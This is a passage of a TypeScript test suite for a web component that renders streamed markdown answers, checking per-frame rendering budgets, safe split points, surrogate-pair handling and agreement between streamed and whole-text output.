    expect(shown(el), 'all of it, once caught up').to.equal(atOnce(text, 2));
    // What a frame shows is at most the source it rendered (markdown's marks do not show).
    expect(growth.length, 'over many frames').to.be.above(text.length / FRAME_CHARS / 2);
    expect(Math.max(...growth), 'no frame renders more than its budget').to.be.at.most(FRAME_CHARS);
    // Then the text completes: nothing more to render, nothing rendered twice.
    el.complete = true;
    await el.updateComplete;
    expect(shown(el)).to.equal(atOnce(text, 2));
  });

  it('renders a text that comes complete at most a budget a frame in view', async function () {
    this.timeout(STREAMING_MS);
    const text = sentences(1_000); // about 90,000 characters: some 22 budgets
    const el = document.createElement('answer-markdown');
    const frames = frameGrowth(el);
    el.complete = true;
    el.text = text;
    document.body.append(el);
    try {
      await el.updateComplete;
      const growth = frames.stop();
      expect(shown(el), 'all of it').to.equal(atOnce(text));
      // Tasks run many to a frame: reading a budget a task, a frame laid out all of theirs.
      expect(Math.max(...growth), 'no frame renders more than its budget').to.be.at.most(
        FRAME_CHARS,
      );
    } finally {
      el.remove();
    }
  });

  it('renders a text that comes complete a budget a task while hidden', async function () {
    this.timeout(STREAMING_MS);
    const text = sentences(1_000); // about 90,000 characters: some 22 budgets
    // A page in the background gets no frames: a saved answer shows all the same.
    const requestFrame = window.requestAnimationFrame;
    window.requestAnimationFrame = () => 0;
    Object.defineProperty(document, 'hidden', { configurable: true, get: () => true });
    const el = document.createElement('answer-markdown');
    let tasks = 0;
    const observer = new MutationObserver(() => tasks++);
    try {
      el.complete = true;
      el.text = text;
      document.body.append(el);
      observer.observe(el.shadowRoot!, { childList: true, subtree: true, characterData: true });
      await el.updateComplete;
      expect(shown(el), 'all of it').to.equal(atOnce(text));
      expect(tasks, 'in many tasks, none long').to.be.above(text.length / FRAME_CHARS / 2);
    } finally {
      observer.disconnect();
      window.requestAnimationFrame = requestFrame;
      delete (document as { hidden?: boolean }).hidden;
      el.remove();
    }
  });

  it('ends pieces at white space, never inside a link, an emphasis or code', async () => {
    // Constructs almost back to back, and runs of text with no sentence end.
    const text = Array.from({ length: 6_000 }, (_, i) =>
      i % 5 === 0
        ? `**strong ${i} words**`
        : i % 7 === 0
          ? `[a link ${i}](https://example.com/${i})`
          : i % 11 === 0
            ? `\`code ${i}\``
            : `w${i}`,
    ).join(' ');
    const cuts: number[] = [];
    for (let at = 1, step = 1; at < text.length; at += step, step = (step * 7 + 3) % 2_099)
      cuts.push(at);
    const { el } = await streamedParts(text, cuts, 25);
    expect(shown(el)).to.equal(atOnce(text, 2));
    const p = el.shadowRoot!.querySelector('p')!;
    const pieces = [...p.querySelectorAll('.piece')];
    expect(pieces.length).to.be.above(3);
    for (const piece of pieces.slice(0, -1)) {
      expect(whiteAfter(piece), 'white space between').to.equal(' ');
      const ends = piece.textContent!.slice(-20);
      expect(/[\w*)\]`]$/.test(ends), ends).to.equal(true);
    }
  });

  it('streams one enormous word in pieces', async () => {
    const word = 'PumpStation4Valve\u{1F527}Flow'.repeat(4_000);
    const cuts: number[] = [];
    for (let at = 999; at < word.length; at += 999) cuts.push(at);
    const { el } = await streamedParts(word, cuts, 0);
    const p = el.shadowRoot!.querySelector('p')!;
    const pieces = [...p.querySelectorAll('.piece')];
    expect(pieces.length).to.be.above(5);
    expect(
      pieces.every(
        (piece) => piece.nextSibling === null || piece.nextSibling === piece.nextElementSibling,
      ),
    ).to.equal(true);
    expect(p.textContent).to.equal(word);
    // A character in two code units (the wrench) is never cut in two.
    for (const piece of pieces)
      expect(piece.textContent!, 'no lone surrogate').not.to.match(
        /(?:[\ud800-\udbff](?![\udc00-\udfff])|(?:^|[^\ud800-\udbff])[\udc00-\udfff])/,
      );
  });

  // A test each: a text is about a hundred renders; the four in one test outran its timeout on a busy machine.
  const longBlocks = {
    list: '- an item with *words* and [a link](https://example.com/i)\n'.repeat(800),
    'nested list': '1. a step\n   - its *detail*\n\n   more of it\n'.repeat(600),
    quote: '> Some *quoted* words\n> on two lines\n>\n'.repeat(800),
    table: '| Site | Flow |\n|:--|--:|\n' + '| P*4* | 412 `m³/h` |\n'.repeat(1_500),
  };
  for (const [name, text] of Object.entries(longBlocks))
    it(`streams a long ${name} as at once, rendering final items once`, async () => {
      const cuts: number[] = [];
      for (let at = 1, step = 1; at < text.length; at += step, step = (step * 7 + 3) % 1_031)
        cuts.push(at);
      const parts: string[] = [];
      const el = await fixture<AnswerMarkdown>(
        html`<answer-markdown .parts=${parts} .citations=${2}></answer-markdown>`,
      );
      let first: Element | undefined;
      let from = 0;
      for (const [i, to] of [...cuts, text.length].entries()) {
        parts.push(text.slice(from, to));
        from = to;
        el.requestUpdate('parts');
        await el.updateComplete;
        if (i % 7 === 0)
          expect(shown(el), `after ${to} of ${text.slice(0, 20)}`).to.equal(
            atOnce(text.slice(0, to), 2),
          );
        // The first item, block or row, once final, is the same element to the end.
        first ??=
          to > 2_000 ? el.shadowRoot!.querySelector('li, blockquote > p, tbody tr')! : undefined;
      }
      el.complete = true;
      await el.updateComplete;
      expect(shown(el)).to.equal(atOnce(text, 2));
      expect(first!.isConnected, 'rendered once').to.equal(true);
      expect(el.shadowRoot!.querySelector('li, blockquote > p, tbody tr')).to.equal(first);
      expect(comments(el.shadowRoot!.querySelector('.content')!)).to.equal(0);
    });

  it('shows after every delta what the text so far shows at once, any markdown', async () => {
    const pieces = [
      ...['word ', ' ', '*', '**', '_', '`', '[1]', '[a](https://e.com/x)', '\\*', '\n', '\n'],
      ...['\n\n', '  \n', '\r\n', '# ', '## ', ' ##', '- ', '1. ', '> ', '```', '```js\n', '~~~'],
      ...['|', 'a | b', '|---|', '---', '\u00a0', 'text', '###### ', '   ', '123456789. '],
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...pieces), { maxLength: 60 }),
        fc.array(fc.nat(), { maxLength: 12 }),
        async (tokens, at) => {
          const text = tokens.join('');
          const cuts = [...new Set(at.map((n) => n % (text.length + 1)))].sort((a, b) => a - b);
          const { el } = await streamedParts(text, cuts);
          el.complete = true;
          await el.updateComplete;
          expect(shown(el)).to.equal(atOnce(text, 2));
          expect(comments(el.shadowRoot!.querySelector('.content')!)).to.equal(0);
        },
      ),
      // Headings whose #s follow a no-break space (it is white space to trim, not before a
      // closing sequence): the stream and the whole text read them two ways.
      {
        numRuns: 60,
        examples: [
          [['## ', '\u00a0', ' ##'], []],
          [['## ', ' ', '\u00a0', '###### '], []],
          [
            ['\\*', '\n\n', '## ', '\u00a0', ' ##', '1. ', '[1]', '```js\n'],
            [1, 2, 3, 9, 11, 16],
          ],
        ],
      },
    );
  });

  it('reads each delta at a bounded cost, however long the open fence or paragraph', async function () {
    this.timeout(STREAMING_MS);
    for (const text of [fence(8_000), paragraph(35_000), 'x'.repeat(128 * 1024)]) {
      // Half a frame's budget a delta, so that a delta is read in one update even when the
      // frame's budget is partly spent (a delta read over two frames reads the window twice).
      const delta = FRAME_CHARS / 2;
      const cuts: number[] = [];
      for (let at = delta; at < 128 * 1024 && at < text.length; at += delta) cuts.push(at);
      const { el, work } = await streamedParts(text.slice(0, 128 * 1024), cuts, 0);
      // A delta's own characters, read a few times, and a bounded window at the end (about 28 KB
      // here): the same at the first delta as at the 64th, where the open block is 128 KB long.
      for (const [i, chars] of work.entries())
        expect(chars, `delta ${i}`).to.be.at.most(3 * delta + 8 * PROBE);
      el.complete = true;
      await el.updateComplete;
      expect(shown(el)).to.equal(atOnce(text.slice(0, 128 * 1024), 2));
    }
  });
});
